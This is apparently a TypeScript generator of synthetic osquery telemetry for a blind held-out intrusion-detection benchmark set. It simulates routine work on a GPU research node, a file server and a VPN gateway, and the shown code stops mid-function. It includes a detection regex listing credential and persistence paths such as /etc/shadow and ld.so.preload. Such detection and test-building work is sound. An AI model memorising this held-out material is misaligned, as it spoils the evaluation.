import { jumpHost, sshScanners } from './heldout';
import { hex, hostBackground, nodeExporter, socket, UNSET } from './heldout3';
import { at, isWeekend, nightlyBackup, pick, postgres, unpackPackage, weekday, weeklyDba } from './routines';
import { companyHost, playStories, type StorySet, type StorySetOptions } from './company';
import type { Story } from './stories';
import { DAY, HOUR, Host, splitLabelled, xorshift, type Row } from './world';

// The fifth held-out story set (`--stories heldout5`, branch heldout5), written blind like the
// third and fourth: without reading the scorer's parsing, features, models or calibration, from
// what Linux intrusions and admin work leave in the tables the product's pack collects. Rows
// keep to what the pack's queries return (conf/osquery.example.conf as of main 94e3dc6):
// socket_events without loopback peers, file_events only under the config's file_paths
// (persistence and credential places, known_hosts excluded), never a deletion, with the
// file_paths category the config gives the place.
//
// The company: the database and the bastion the earlier sets have, and three host roles no set
// has had: a shared GPU login/compute node of a research group (JupyterHub with its users'
// servers, kernels and terminals, Slurm batch jobs through slurmstepd, conda environments, a
// new person now and then, one who left), a Samba/NFS file server (smbd from the office, the
// on-demand rpcd workers, autofs mounts from the GPU node, ZFS snapshots, the backup) and a
// VPN gateway in a public cloud (OpenVPN's client scripts, WireGuard peers added by a company
// script, fail2ban banning the internet's SSH guesses, the cloud's SSM agent and its daily
// inventory). Ten attacks with ATT&CK techniques none of sets 1-4 used, several of them careful
// (a routine's hour, parent, name or address), and five benign first times, labelled normal.

type Rand = () => number;
type Tag = { story?: string; novelty?: string };

// ---- addresses ----
const PG = '10.40.2.7';
const GPU = '10.40.3.10';
const FILES = '10.40.3.20';
const VPN_INSIDE = '10.40.0.40';
const SLURMCTLD = '10.40.1.20';
const MON = '10.40.1.5';
const GITLAB = '10.40.0.5';
const FORENSICS = '10.40.0.60';
const CONDA = ['104.17.92.24', '104.17.93.24'];
const PYPI = ['151.101.0.223', '151.101.64.223'];
const GITHUB = ['140.82.121.3', '140.82.121.4'];
const WANDB = '35.186.228.49';
const HUGGINGFACE = ['18.244.202.60', '18.244.202.118'];
const METADATA = '169.254.169.254';
const SSM = ['52.119.188.21', '52.119.190.143'];
const HOME_ISPS = ['89.204', '176.3', '80.187', '31.16', '94.134', '185.53', '62.226'];

const OFFICE: Record<string, string> = {
  ana: '10.40.8.72',
  raj: '10.40.8.73',
  mei: '10.40.8.74',
  tomas: '10.40.8.75',
  lars: '10.40.8.70',
  ops: '10.40.8.44',
  hana: '10.40.8.88',
  sofia: '10.40.8.86',
};
/** the VPN pool's address a person keeps (the gateway pins it per certificate) */
const VPN_ADDR: Record<string, string> = {
  ana: '10.40.9.72',
  raj: '10.40.9.73',
  mei: '10.40.9.74',
  tomas: '10.40.9.75',
  lars: '10.40.9.70',
  ops: '10.40.9.44',
  hana: '10.40.9.88',
  sofia: '10.40.9.86',
};

/** where the config's file_paths put a path, or undefined when none watches it */
function watchedCategory(path: string): 'persistence' | 'credentials' | undefined {
  if (path.endsWith('/.ssh/known_hosts')) return undefined;
  if (/^(\/home\/[^/]+\/\.ssh\/|\/root\/\.ssh\/|\/etc\/passwd$|\/etc\/shadow$|\/etc\/group$|\/etc\/sudoers$|\/etc\/sudoers\.d\/|\/etc\/pam\.d\/)/.test(path))
    return 'credentials';
  if (
    /^(\/etc\/cron\.d\/|\/etc\/crontab$|\/var\/spool\/cron\/|\/etc\/systemd\/system\/|\/etc\/init\.d\/|\/etc\/rc\.local$|\/etc\/udev\/rules\.d\/|\/etc\/ld\.so\.preload$|\/etc\/ld\.so\.conf\.d\/|\/etc\/profile\.d\/|\/etc\/profile$|\/etc\/bash\.bashrc$|\/etc\/environment$|\/etc\/update-motd\.d\/|\/etc\/apt\/apt\.conf\.d\/|\/etc\/xdg\/autostart\/|\/etc\/modprobe\.d\/|\/etc\/modules-load\.d\/|\/home\/[^/]+\/\.config\/systemd\/user\/|\/root\/\.config\/systemd\/user\/|\/home\/[^/]+\/\.config\/autostart\/|\/home\/[^/]+\/\.(bashrc|bash_profile|profile)$|\/root\/\.(bashrc|profile)$)/.test(
      path,
    )
  )
    return 'persistence';
  return undefined;
}

/** whether the pack's query returns the row (and a file event gets its place's category) */
export function packReturns(row: Row): boolean {
  if (row.query === 'pack_hids_socket_events') return !row.columns.remote_address.startsWith('127.');
  if (row.query === 'pack_hids_file_events') {
    const category = watchedCategory(row.columns.target_path);
    if (!category || !['CREATED', 'UPDATED', 'MOVED_TO', 'ATTRIBUTES_MODIFIED'].includes(row.columns.action)) return false;
    row.columns.category = category;
  }
  return true;
}

/** a UDP listener (listening_ports' protocol 17) */
export function listenUdp(h: Host, time: number, pid: string, port: number, r: Rand): void {
  h.rows.push({
    host: h.name,
    query: 'pack_hids_listening_ports',
    time,
    columns: { pid, port: String(port), address: '0.0.0.0', protocol: '17', family: '2', socket: String(10000 + Math.floor(r() * 90000)) },
  });
}

export const publicAddress = (r: Rand, nets: readonly string[]) => `${pick(r, nets)}.${1 + Math.floor(r() * 250)}.${1 + Math.floor(r() * 250)}`;
const uuid = (r: Rand) => `${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}`;

// ---- the GPU node ----

export interface GpuState {
  nextJob: number;
  /** each person's JupyterHub server of a day: `who@day` */
  servers: Map<string, { pid: string; start: number; end: number }>;
}

const ENVS: Record<string, string> = { ana: 'nlp', raj: 'vision', mei: 'genomics', tomas: 'nlp', sofia: 'thesis' };

/** a Slurm command that talks to the controller (sbatch, squeue, sinfo, scontrol) or the accounting daemon (sacct) */
function slurmClient(h: Host, t: number, r: Rand, who: string, cmd: string, shell: string, cwd: string, tag: Tag = {}): string {
  const exe = `/usr/bin/${cmd.split(' ')[0]}`;
  const pid = h.exec(t, who, exe, cmd, shell, { cwd, ...tag });
  socket(h, r, t + 1, { pid, path: exe, action: 'connect', address: SLURMCTLD, port: cmd.startsWith('sacct') ? 6819 : 6817, auid: h.account(who).uid }, tag);
  return pid;
}

/** one batch job as slurmd runs it here: the controller's connection, slurmstepd, the job script, the training */
export function slurmJob(h: Host, t: number, r: Rand, st: GpuState, who: string, tag: Tag = {}): void {
  const uid = h.account(who).uid;
  const env = ENVS[who] ?? 'base';
  const cwd = `${h.account(who).home}/projects/${env}`;
  const job = st.nextJob++;
  socket(h, r, t, { pid: '1300', path: '/usr/sbin/slurmd', action: 'accept', address: SLURMCTLD, port: 0, localPort: 6818, auid: UNSET }, tag);
  const step = h.exec(t + 1, null, '/usr/sbin/slurmstepd', `slurmstepd: [${job}.batch]`, '1300', { uid: '0', cwd: '/var/spool/slurmd', ...tag });
  const sh = h.exec(t + 2, null, '/bin/bash', `/bin/bash /var/spool/slurmd/job${String(job).padStart(5, '0')}/slurm_script`, step, { uid, cwd, ...tag });
  if (r() < 0.5) h.exec(t + 3, null, '/usr/bin/nvidia-smi', 'nvidia-smi --query-gpu=index,name,memory.used --format=csv', sh, { uid, cwd, ...tag });
  const script = pick(r, [
    'train.py --config configs/base.yaml',
    'train.py --config configs/large.yaml --resume',
    'eval.py --split val',
    'preprocess.py --workers 16',
  ]);
  const py = h.exec(t + 5, null, `/opt/conda/envs/${env}/bin/python`, `python ${script}`, sh, { uid, cwd, ...tag });
  if (script.startsWith('train') && r() < 0.7)
    socket(h, r, t + 40, { pid: py, path: `/opt/conda/envs/${env}/bin/python3.11`, action: 'connect', address: WANDB, port: 443, auid: UNSET }, tag);
  if (r() < 0.2)
    socket(
      h,
      r,
      t + 20,
      { pid: py, path: `/opt/conda/envs/${env}/bin/python3.11`, action: 'connect', address: pick(r, HUGGINGFACE), port: 443, auid: UNSET },
      tag,
    );
}

/** a person's JupyterHub server for the day: the proxy's connection, the server, kernels, now and then a terminal */
export function jupyterDay(h: Host, day: number, r: Rand, st: GpuState, who: string, from: string, start: number, hours: number, tag: Tag = {}): string {
  const uid = h.account(who).uid;
  const home = h.account(who).home;
  const env = ENVS[who] ?? 'base';
  socket(h, r, start, { pid: '1320', path: '/usr/bin/node', action: 'accept', address: from, port: 0, localPort: 443, auid: UNSET }, tag);
  const su = h.exec(
    start + 3,
    null,
    '/opt/jupyterhub/bin/python3',
    `/opt/jupyterhub/bin/python3 /opt/jupyterhub/bin/jupyterhub-singleuser --port=${40000 + Math.floor(r() * 20000)}`,
    '1310',
    { uid, cwd: home, ...tag },
  );
  const span = Math.floor(hours * HOUR);
  st.servers.set(`${who}@${day}`, { pid: su, start, end: start + span });
  const nb = { uid, cwd: `${home}/notebooks`, ...tag };
  for (let k = 0; k < 2 + Math.floor(r() * 4); k++) {
    const t = start + 30 + Math.floor(r() * span * 0.8);
    const kernel = h.exec(
      t,
      null,
      `/opt/conda/envs/${env}/bin/python`,
      `/opt/conda/envs/${env}/bin/python -m ipykernel_launcher -f ${home}/.local/share/jupyter/runtime/kernel-${uuid(r)}.json`,
      su,
      nb,
    );
    const pyPath = `/opt/conda/envs/${env}/bin/python3.11`;
    if (who === 'ana' && r() < 0.6) socket(h, r, t + 60, { pid: kernel, path: pyPath, action: 'connect', address: PG, port: 5432, auid: UNSET }, tag);
    if (r() < 0.3) socket(h, r, t + 90, { pid: kernel, path: pyPath, action: 'connect', address: pick(r, HUGGINGFACE), port: 443, auid: UNSET }, tag);
    if (r() < 0.3) {
      const sh = h.exec(t + 120, null, '/bin/sh', '/bin/sh -c nvidia-smi', kernel, nb);
      h.exec(t + 120, null, '/usr/bin/nvidia-smi', 'nvidia-smi', sh, nb);
    }
    if (r() < 0.1) {
      const pkg = pick(r, ['seaborn', 'umap-learn', 'datasets', 'evaluate', 'rich']);
      const sh = h.exec(t + 200, null, '/bin/sh', `/bin/sh -c pip install -q ${pkg}`, kernel, nb);
      const pip = h.exec(t + 200, null, `/opt/conda/envs/${env}/bin/python`, `/opt/conda/envs/${env}/bin/python -m pip install -q ${pkg}`, sh, nb);
      socket(h, r, t + 202, { pid: pip, path: pyPath, action: 'connect', address: pick(r, PYPI), port: 443, auid: UNSET }, tag);
    }
  }
  if (r() < 0.45) {
    const t = start + 60 + Math.floor(r() * span * 0.7);
    const term = h.exec(t, null, '/bin/bash', '/bin/bash -l', su, { uid, cwd: home, ...tag });
    const cmds: Array<[string, string, ((tt: number, pid: string) => void)?]> = [
      [
        '/usr/bin/git',
        'git pull',
        (tt, pid) => socket(h, r, tt, { pid, path: '/usr/bin/ssh', action: 'connect', address: GITLAB, port: 22, auid: UNSET }, tag),
      ],
      ['/usr/bin/nvidia-smi', 'nvidia-smi'],
      ['/usr/bin/htop', 'htop'],
      ['/usr/bin/du', 'du -sh data'],
      ['/usr/bin/ls', 'ls -la'],
      ['/usr/bin/git', 'git status'],
    ];
    for (let k = 0; k < 2 + Math.floor(r() * 4); k++) {
      const tt = t + 20 + k * (30 + Math.floor(r() * 300));
      const [exe, cmd, net] = pick(r, cmds);
      const pid = h.exec(tt, null, exe, cmd, term, { uid, cwd: home, ...tag });
      net?.(tt + 1, pid);
      if (r() < 0.5) h.history(tt, who, cmd, tag);
    }
  }
  return su;
}

/** an SSH session on the GPU node: the person's Slurm and shell work, and the batch jobs it submits */
export function gpuShellDay(h: Host, day: number, r: Rand, st: GpuState, who: string, from: string, start: number, n: number, tag: Tag = {}): void {
  const home = h.account(who).home;
  const env = ENVS[who] ?? 'base';
  const cwd = `${home}/projects/${env}`;
  h.login(start, who, from, tag);
  const shell = h.session(start, who, tag);
  const cmds = [
    `squeue -u ${who}`,
    `squeue -u ${who}`,
    'sinfo',
    `sacct -u ${who} --starttime today`,
    'sbatch jobs/train.sbatch',
    'sbatch jobs/train.sbatch',
    'nvidia-smi',
    'vim train.py',
    `tail -n 50 slurm-${st.nextJob - 1}.out`,
    'git pull',
    'du -sh /scratch/' + who,
    'ls -lt checkpoints',
    'conda install',
  ];
  for (let i = 0; i < n; i++) {
    const t = start + 30 + Math.floor(((i + r()) / n) * 3 * HOUR);
    const cmd = pick(r, cmds);
    if (/^(squeue|sinfo|sacct|sbatch)/.test(cmd)) {
      slurmClient(h, t, r, who, cmd, shell, cwd, tag);
      if (cmd.startsWith('sbatch')) slurmJob(h, t + 5 + Math.floor(r() * 1200), r, st, who, tag);
    } else if (cmd === 'conda install') {
      // conda now and then: a package from conda-forge, some with a post-link script (widgets enable their notebook extension)
      const pkg = pick(r, ['widgetsnbextension', 'scikit-learn', 'h5py', 'ipywidgets', 'opencv', 'pyarrow']);
      const full = `conda install -y -n ${env} -c conda-forge ${pkg}`;
      const conda = h.exec(t, who, '/opt/conda/bin/python', `/opt/conda/bin/python /opt/conda/bin/${full}`, shell, { cwd, ...tag });
      socket(
        h,
        r,
        t + 2,
        { pid: conda, path: '/opt/conda/bin/python3.12', action: 'connect', address: pick(r, CONDA), port: 443, auid: h.account(who).uid },
        tag,
      );
      if (pkg === 'widgetsnbextension' || pkg === 'ipywidgets') {
        const post = h.exec(t + 40, who, '/bin/bash', `/bin/bash -x /opt/conda/envs/${env}/bin/.widgetsnbextension-post-link.sh`, conda, { cwd, ...tag });
        h.exec(
          t + 41,
          who,
          `/opt/conda/envs/${env}/bin/python`,
          `/opt/conda/envs/${env}/bin/python /opt/conda/envs/${env}/bin/jupyter-nbextension enable widgetsnbextension --py --sys-prefix`,
          post,
          { cwd, ...tag },
        );
      }
      if (r() < 0.7) h.history(t, who, full, tag);
      continue;
    } else {
      const exe = `/usr/bin/${cmd.split(' ')[0]}`;
      const pid = h.exec(t, who, exe, cmd, shell, { cwd, ...tag });
      if (cmd === 'git pull') socket(h, r, t + 1, { pid, path: '/usr/bin/ssh', action: 'connect', address: GITLAB, port: 22, auid: h.account(who).uid }, tag);
    }
    if (r() < 0.6) h.history(t, who, cmd, tag);
  }
}

/** a working day of the research group on the GPU node */
export function gpuNode(h: Host, d: number, day: number, r: Rand, st: GpuState): void {
  h.listen(day + 60, '1300', 6818, '0.0.0.0');
  h.listen(day + 60, '1320', 443, '0.0.0.0');
  h.listen(day + 60, '1310', 8081, '127.0.0.1');
  h.listen(day + 60, '1340', 9400, '0.0.0.0');
  for (let i = 0; i < 1 + Math.floor(r() * 3); i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '1340',
      path: '/usr/bin/dcgm-exporter',
      action: 'accept',
      address: MON,
      port: 0,
      localPort: 9400,
      auid: UNSET,
    });
  // the scratch cleanup at 04:00
  const t0 = at(day, 4, r, 5);
  const cron = h.exec(t0, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', '1');
  const sh = h.exec(t0 + 1, 'root', '/bin/sh', '/bin/sh -c find /scratch -xdev -type f -atime +30 -delete', cron);
  h.exec(t0 + 1, 'root', '/usr/bin/find', 'find /scratch -xdev -type f -atime +30 -delete', sh);
  const holiday = d === 0;
  const bridge = d === 1;
  const workday = !isWeekend(day) && !holiday;
  const present = (p: number) => workday && r() < (bridge ? p * 0.4 : p);
  // ana: JupyterLab most working days, from the office, some days from home
  if (present(0.92)) {
    const home = r() < 0.25;
    jupyterDay(h, day, r, st, 'ana', home ? VPN_ADDR.ana : OFFICE.ana, at(day, 8, r, 90), 7 + r() * 2);
    if (r() < 0.5) gpuShellDay(h, day, r, st, 'ana', home ? VPN_ADDR.ana : OFFICE.ana, at(day, 13, r, 180), 3 + Math.floor(r() * 4));
  }
  // raj: batch jobs; afternoons and evenings, some weekend evenings from home
  if (present(0.85)) {
    gpuShellDay(h, day, r, st, 'raj', OFFICE.raj, at(day, 11, r, 120), 12 + Math.floor(r() * 14));
    if (r() < 0.35) gpuShellDay(h, day, r, st, 'raj', VPN_ADDR.raj, at(day, 20, r, 90), 2 + Math.floor(r() * 4));
    if (r() < 0.5) jupyterDay(h, day, r, st, 'raj', OFFICE.raj, at(day, 14, r, 60), 2 + r() * 2);
  } else if ((isWeekend(day) || holiday) && r() < 0.35) gpuShellDay(h, day, r, st, 'raj', VPN_ADDR.raj, at(day, 19, r, 120), 2 + Math.floor(r() * 4));
  // mei: part-time on Tuesdays and Thursdays, until she leaves on Wednesday 14 January (her account stays)
  if (d <= 13 && (weekday(day) === 2 || weekday(day) === 4 || d === 13) && workday) {
    jupyterDay(h, day, r, st, 'mei', OFFICE.mei, at(day, 10, r, 60), 4 + r());
    gpuShellDay(h, day, r, st, 'mei', OFFICE.mei, at(day, 11, r, 120), 4 + Math.floor(r() * 5));
  }
  // tomas: a visiting researcher from Monday 12 January, notebooks only
  if (d >= 11 && present(0.9)) jupyterDay(h, day, r, st, 'tomas', OFFICE.tomas, at(day, 10, r, 60), 5 + r());
  // jobs queued from the day before run at night
  for (let k = 0; k < (isWeekend(day) ? 1 + Math.floor(r() * 3) : 2 + Math.floor(r() * 4)); k++)
    slurmJob(h, at(day, 0, r, 6 * 60), r, st, pick(r, ['raj', 'raj', 'ana']));
  // lars, who runs the group's machines: Mondays on the node (the queue, the disks, a restart now and then)
  if (weekday(day) === 1 && !holiday) {
    const start = at(day, 9, r, 60);
    h.login(start, 'lars', OFFICE.lars);
    const shell = h.session(start, 'lars');
    let t = start + 30;
    for (const cmd of ['sinfo -N -l', 'squeue', 'df -h /scratch /home', 'nvidia-smi', 'sudo systemctl restart slurmd', 'sudo scontrol show node gpu-login-1']) {
      if (r() < 0.3) continue;
      if (cmd.startsWith('sudo')) {
        const sudo = h.exec(t, 'lars', '/usr/bin/sudo', cmd, shell, { euid: '0' });
        const inner = cmd.slice(5);
        const pid = h.exec(t + 1, 'lars', `/usr/bin/${inner.split(' ')[0]}`, inner, sudo, { uid: '0', euid: '0' });
        if (inner.startsWith('scontrol'))
          socket(h, r, t + 2, { pid, path: '/usr/bin/scontrol', action: 'connect', address: SLURMCTLD, port: 6817, auid: '1110' });
        if (inner.includes('restart slurmd')) h.exec(t + 3, null, '/usr/sbin/slurmd', '/usr/sbin/slurmd --systemd', '1', { uid: '0', cwd: '/' });
      } else if (/^(sinfo|squeue)/.test(cmd)) slurmClient(h, t, r, 'lars', cmd, shell, '/home/lars');
      else h.exec(t, 'lars', `/usr/bin/${cmd.split(' ')[0]}`, cmd, shell);
      h.history(t, 'lars', cmd);
      t += 30 + Math.floor(r() * 200);
    }
  }
}

/** lars creates an account for a newcomer on the GPU node: useradd, the Slurm association, an expired password */
export function provisionResearcher(h: Host, t: number, r: Rand, who: string, tag: Tag = {}): void {
  h.login(t, 'lars', OFFICE.lars, tag);
  const shell = h.session(t, 'lars', tag);
  const steps = [`useradd -m -s /bin/bash -G hpcusers ${who}`, `sacctmgr -i add user ${who} account=vision`, `passwd -e ${who}`];
  let tt = t + 30;
  for (const cmd of steps) {
    const sudo = h.exec(tt, 'lars', '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0', ...tag });
    const exe = cmd.startsWith('useradd') ? '/usr/sbin/useradd' : cmd.startsWith('passwd') ? '/usr/bin/passwd' : '/usr/bin/sacctmgr';
    const pid = h.exec(tt + 1, 'lars', exe, cmd, sudo, { uid: '0', euid: '0', ...tag });
    if (exe.endsWith('sacctmgr')) socket(h, r, tt + 2, { pid, path: exe, action: 'connect', address: SLURMCTLD, port: 6819, auid: '1110' }, tag);
    if (exe.endsWith('useradd')) for (const f of ['/etc/passwd', '/etc/shadow', '/etc/group']) h.file(tt + 1, f, 'UPDATED', tag);
    if (exe.endsWith('passwd')) h.file(tt + 1, '/etc/shadow', 'UPDATED', tag);
    h.history(tt, 'lars', `sudo ${cmd}`, tag);
    tt += 20 + Math.floor(r() * 60);
  }
}

// ---- the file server ----

const SMB_CLIENTS = [
  '10.40.8.72',
  '10.40.8.73',
  '10.40.8.75',
  '10.40.8.70',
  '10.40.8.88',
  '10.40.8.88',
  '10.40.8.44',
  '10.40.8.52',
  '10.40.8.61',
  '10.40.8.90',
  '10.40.8.91',
];

/** Samba from the office, the rpcd workers samba-dcerpcd starts on demand, autofs mounts from the GPU node, the daily ZFS snapshot */
export function fileServer(h: Host, d: number, day: number, r: Rand): void {
  h.listen(day + 60, '1400', 445, '0.0.0.0');
  h.listen(day + 60, '1400', 139, '0.0.0.0');
  h.listen(day + 60, '1410', 111, '0.0.0.0');
  h.listen(day + 60, '1420', 20048, '0.0.0.0');
  const workday = !isWeekend(day) && d !== 0;
  const n = workday ? (d === 1 ? 10 : 30) + Math.floor(r() * 30) : Math.floor(r() * 4);
  for (let i = 0; i < n; i++) {
    const t = workday ? at(day, 7, r, 11 * 60) : day + Math.floor(r() * DAY);
    const client = pick(r, d <= 13 ? [...SMB_CLIENTS, '10.40.8.74'] : SMB_CLIENTS);
    socket(h, r, t, { pid: '1400', path: '/usr/sbin/smbd', action: 'accept', address: client, port: 0, localPort: 445, auid: UNSET });
  }
  for (let i = 0; i < (workday ? 1 + Math.floor(r() * 4) : 0); i++) {
    const worker = pick(r, ['rpcd_lsad', 'rpcd_winreg', 'rpcd_classic', 'rpcd_spoolss', 'rpcd_lsad']);
    h.exec(
      at(day, 8, r, 9 * 60),
      null,
      `/usr/libexec/samba/${worker}`,
      `/usr/libexec/samba/${worker} --configfile=/etc/samba/smb.conf --worker-group=${1 + Math.floor(r() * 5)} --worker-index=0 --debuglevel=0`,
      '1405',
      {
        uid: '0',
        cwd: '/',
      },
    );
  }
  for (let i = 0; i < 3 + Math.floor(r() * 4); i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '1420',
      path: '/usr/sbin/rpc.mountd',
      action: 'accept',
      address: r() < 0.8 ? GPU : pick(r, ['10.40.8.90', '10.40.8.91']),
      port: 0,
      localPort: 20048,
      auid: UNSET,
    });
  // cron.daily's zfs-auto-snapshot, keeping a week of daily snapshots
  const t = at(day, 6, r, 10) + 25 * 60;
  const cron = h.exec(t, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', '1');
  const sh = h.exec(t + 1, 'root', '/bin/sh', '/bin/sh -c test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }', cron);
  const rp = h.exec(t + 1, 'root', '/bin/run-parts', 'run-parts --report /etc/cron.daily', sh);
  const script = h.exec(t + 2, 'root', '/etc/cron.daily/zfs-auto-snapshot', '/bin/sh /etc/cron.daily/zfs-auto-snapshot', rp);
  const zas = h.exec(t + 2, 'root', '/usr/sbin/zfs-auto-snapshot', 'zfs-auto-snapshot --quiet --syslog --label=daily --keep=7 //', script);
  const date = new Date(day * 1000).toISOString().slice(0, 10);
  const old = new Date((day - 7 * DAY) * 1000).toISOString().slice(0, 10);
  h.exec(t + 3, 'root', '/usr/sbin/zfs', `zfs snapshot -o com.sun:auto-snapshot-desc=- -r tank/shares@zfs-auto-snap_daily-${date}-0625`, zas);
  h.exec(t + 4, 'root', '/usr/sbin/zfs', `zfs destroy -d tank/shares@zfs-auto-snap_daily-${old}-0625`, zas);
  // the monthly scrub, on the second Sunday
  if (weekday(day) === 0 && new Date(day * 1000).getUTCDate() > 7 && new Date(day * 1000).getUTCDate() <= 14) {
    const ts = day + 24 * 60;
    const c = h.exec(ts, null, '/usr/sbin/cron', '/usr/sbin/CRON -f', '1');
    const s = h.exec(
      ts + 1,
      'root',
      '/bin/sh',
      '/bin/sh -c if [ $(date +\\%w) -eq 0 ] && [ -x /usr/lib/zfs-linux/scrub ]; then /usr/lib/zfs-linux/scrub; fi',
      c,
    );
    const sc = h.exec(ts + 1, 'root', '/usr/lib/zfs-linux/scrub', '/bin/sh /usr/lib/zfs-linux/scrub', s);
    h.exec(ts + 2, 'root', '/usr/sbin/zpool', 'zpool scrub tank', sc);
  }
}

/** ops checks the file server on Mondays and Thursdays; lars sets quotas on Fridays */
export function fileAdmins(h: Host, d: number, day: number, r: Rand): void {
  if (d === 0) return;
  const sessions: Array<[string, number, string[]]> = [];
  if (weekday(day) === 1 || weekday(day) === 4)
    sessions.push([
      'ops',
      10,
      [
        'smbstatus -b',
        'sudo pdbedit -L',
        'zpool status -x',
        'zfs list -o space',
        'sudo exportfs -v',
        'tail -n 100 /var/log/samba/log.smbd',
        'sudo smbcontrol all reload-config',
      ],
    ]);
  if (weekday(day) === 5 || (!isWeekend(day) && r() < 0.15))
    sessions.push([
      'lars',
      14,
      [
        'zfs list -o name,used,quota -r tank/shares/research',
        'sudo zfs set quota=2T tank/shares/research/' + pick(r, ['ana', 'raj', 'tomas']),
        'df -h /srv/shares',
        'sudo zfs list -t snapshot -o name,used -s creation',
      ],
    ]);
  for (const [who, hour, cmds] of sessions) {
    const start = at(day, hour, r, 90);
    h.login(start, who, OFFICE[who]);
    const shell = h.session(start, who);
    let t = start + 30;
    for (const cmd of cmds) {
      if (r() < 0.3) continue;
      if (cmd.startsWith('sudo ')) {
        const sudo = h.exec(t, who, '/usr/bin/sudo', cmd, shell, { euid: '0' });
        const inner = cmd.slice(5);
        const exe = inner.startsWith('zfs') ? '/usr/sbin/zfs' : inner.startsWith('exportfs') ? '/usr/sbin/exportfs' : `/usr/bin/${inner.split(' ')[0]}`;
        h.exec(t + 1, who, exe, inner, sudo, { uid: '0', euid: '0' });
      } else h.exec(t, who, cmd.startsWith('z') ? `/usr/sbin/${cmd.split(' ')[0]}` : `/usr/bin/${cmd.split(' ')[0]}`, cmd, shell);
      if (r() < 0.8) h.history(t, who, cmd);
      t += 30 + Math.floor(r() * 240);
    }
  }
}

// ---- the VPN gateway ----

const VPN_PEOPLE = ['ana', 'raj', 'tomas', 'lars', 'ops', 'kim', 'omar', 'dana', 'sam', 'hana'];

/** one OpenVPN client's session: the client-connect script, and the disconnect script hours later */
function vpnClient(h: Host, t: number, r: Rand, who: string, hours: number, tag: Tag = {}): void {
  const cwd = { cwd: '/etc/openvpn/server', ...tag };
  if (r() < 0.2)
    socket(
      h,
      r,
      t - 1,
      { pid: '1500', path: '/usr/sbin/openvpn', action: 'accept', address: publicAddress(r, HOME_ISPS), port: 0, localPort: 443, auid: UNSET },
      tag,
    );
  const addr = VPN_ADDR[who] ?? `10.40.9.${100 + Math.floor(r() * 100)}`;
  const cc = h.exec(t, 'nobody', '/bin/sh', `/bin/sh /etc/openvpn/scripts/client-connect.sh /tmp/openvpn_cc_${hex(r, 32)}.tmp`, '1500', cwd);
  h.exec(t, 'nobody', '/usr/bin/logger', `logger -t ovpn-connect ${who} ${addr}`, cc, cwd);
  const te = t + Math.floor(hours * HOUR);
  const dc = h.exec(te, 'nobody', '/bin/sh', '/bin/sh /etc/openvpn/scripts/client-disconnect.sh', '1500', cwd);
  h.exec(te, 'nobody', '/usr/bin/logger', `logger -t ovpn-disconnect ${who} ${addr}`, dc, cwd);
}

/** the company's own script that adds a WireGuard peer: keys, the peer, the saved config, a QR code for phones */
function addPeer(
  h: Host,
  t: number,
  r: Rand,
  iface: string,
  name: string,
  ip: string,
  parent: string,
  ids: { uid?: string; euid?: string; cwd?: string } & Tag,
): number {
  const script = h.exec(t, 'ops', '/usr/local/sbin/vpn-add-peer', `/bin/bash /usr/local/sbin/vpn-add-peer --iface ${iface} ${name}`, parent, ids);
  h.exec(t + 1, 'ops', '/usr/bin/wg', 'wg genkey', script, ids);
  h.exec(t + 1, 'ops', '/usr/bin/wg', 'wg pubkey', script, ids);
  h.exec(t + 2, 'ops', '/usr/bin/wg', `wg set ${iface} peer ${hex(r, 43)}= allowed-ips ${ip}/32`, script, ids);
  h.exec(t + 3, 'ops', '/usr/bin/wg-quick', `wg-quick save ${iface}`, script, ids);
  h.exec(t + 4, 'ops', '/usr/bin/qrencode', `qrencode -t png -o /root/peers/${name}.png`, script, ids);
  return t + 5;
}

/** the gateway: OpenVPN clients, fail2ban against the internet's SSH guesses, the cloud's SSM agent, ops on Tuesdays and on call */
export function vpnGateway(h: Host, d: number, day: number, r: Rand): void {
  h.listen(day + 60, '1500', 443, '0.0.0.0');
  listenUdp(h, day + 60, '1500', 1194, r);
  const workday = !isWeekend(day) && d !== 0;
  const people = VPN_PEOPLE.filter(() => r() < (workday ? (d === 1 ? 0.25 : 0.45) : 0.12));
  if (d <= 13 && workday && r() < 0.3) people.push('mei');
  for (const who of people) vpnClient(h, r() < 0.6 ? at(day, 7, r, 150) : at(day, 18, r, 240), r, who, 1 + r() * 5);
  // fail2ban: the scanners' guesses, and a ban and unban now and then
  sshScanners(h, day, r);
  for (let i = 0; i < Math.floor(r() * 3); i++) {
    const ip = publicAddress(r, ['45.148', '61.177', '103.99', '185.220', '218.92']);
    const t = day + Math.floor(r() * DAY);
    const ban = `iptables -w -I f2b-sshd 1 -s ${ip} -j REJECT --reject-with icmp-port-unreachable`;
    const sh = h.exec(t, null, '/bin/sh', `/bin/sh -c ${ban}`, '1550', { uid: '0', cwd: '/' });
    h.exec(t, null, '/usr/sbin/iptables', ban, sh, { uid: '0', cwd: '/' });
    const unban = ban.replace('-I f2b-sshd 1', '-D f2b-sshd');
    const sh2 = h.exec(t + 600, null, '/bin/sh', `/bin/sh -c ${unban}`, '1550', { uid: '0', cwd: '/' });
    h.exec(t + 600, null, '/usr/sbin/iptables', unban, sh2, { uid: '0', cwd: '/' });
  }
  // the SSM agent: instance metadata, its endpoint, the daily inventory, the Sunday patch scan
  for (let i = 0; i < 4 + Math.floor(r() * 4); i++)
    socket(h, r, day + Math.floor(r() * DAY), { pid: '1600', path: '/usr/bin/amazon-ssm-agent', action: 'connect', address: METADATA, port: 80, auid: UNSET });
  for (let i = 0; i < 3 + Math.floor(r() * 3); i++)
    socket(h, r, day + Math.floor(r() * DAY), {
      pid: '1600',
      path: '/usr/bin/amazon-ssm-agent',
      action: 'connect',
      address: pick(r, SSM),
      port: 443,
      auid: UNSET,
    });
  const inv = at(day, 1, r, 120);
  const worker = h.exec(inv, null, '/usr/bin/ssm-document-worker', `/usr/bin/ssm-document-worker ${uuid(r)} i-0a1b2c3d4e5f60718`, '1600', {
    uid: '0',
    cwd: '/',
  });
  h.exec(inv + 2, null, '/usr/bin/dpkg-query', 'dpkg-query -W -f ${Package}\\t${Version}\\t${Architecture}\\n', worker, { uid: '0', cwd: '/' });
  h.exec(inv + 3, null, '/usr/bin/uname', 'uname -r', worker, { uid: '0', cwd: '/' });
